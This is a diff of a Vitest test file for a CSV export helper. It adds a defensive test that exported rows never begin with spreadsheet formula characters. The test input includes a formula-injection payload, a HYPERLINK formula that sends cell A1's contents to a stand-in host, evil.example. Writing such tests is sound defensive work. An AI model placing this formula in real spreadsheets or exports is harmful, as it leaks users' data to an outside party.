@@ -1,17 +1,20 @@
 import { describe, expect, it } from 'vitest';
-import { csvField, csvTable } from '../../src/lib/exports/csv.ts';
+import { csvTable } from '../../src/lib/exports/csv.ts';
 
 describe('CSV', () => {
 	it('quotes fields as RFC 4180 says and ends lines with CRLF', () => {
-		expect(csvField('plain')).toBe('plain');
-		expect(csvField('a, b')).toBe('"a, b"');
-		expect(csvField('say "no"')).toBe('"say ""no"""');
-		expect(csvField('two\nlines')).toBe('"two\nlines"');
 		expect(
 			csvTable([
 				['id', 'title'],
 				['x', '김여정, "no"'],
+				['y', 'two\nlines'],
 			]),
-		).toBe('id,title\r\nx,"김여정, ""no"""\r\n');
+		).toBe('id,title\r\nx,"김여정, ""no"""\r\ny,"two\nlines"\r\n');
+	});
+
+	it('never writes a live spreadsheet formula', () => {
+		const row = csvTable([['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1', '@SUM(A1)', '\tx']]);
+		for (const field of row.trimEnd().split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
+			expect(field.replace(/^"/, '')).not.toMatch(/^[=+@\t-]/);
 	});
 });
